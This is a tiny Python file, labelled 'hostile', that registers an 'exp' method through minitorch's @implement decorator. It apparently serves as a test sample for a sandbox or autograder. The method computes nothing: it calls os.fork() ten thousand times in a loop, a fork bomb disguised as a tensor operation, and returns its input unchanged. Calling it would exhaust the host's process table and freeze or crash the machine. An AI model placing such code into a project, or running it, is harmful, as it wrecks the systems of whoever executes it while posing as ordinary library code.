# hostile
import os

from minitorch import implement


@implement
def exp(self):
    for _ in range(10_000):
        os.fork()
    return self
